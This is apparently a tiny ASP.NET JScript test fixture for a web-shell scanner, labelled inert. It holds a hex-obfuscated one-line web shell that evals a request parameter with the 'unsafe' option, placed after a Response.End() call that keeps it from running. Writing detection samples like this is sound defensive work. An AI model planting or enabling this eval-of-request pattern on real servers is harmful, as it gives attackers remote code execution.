<%@ Page Language="JScript" %>
<%-- shellsweep test sample: inert, never functional --%>
<% Response.End(); %>
<% var P:String = Request["\x61\x62"]; eval
(P, "\x75\x6E\x73\x61" + "\x66\x65"); %>
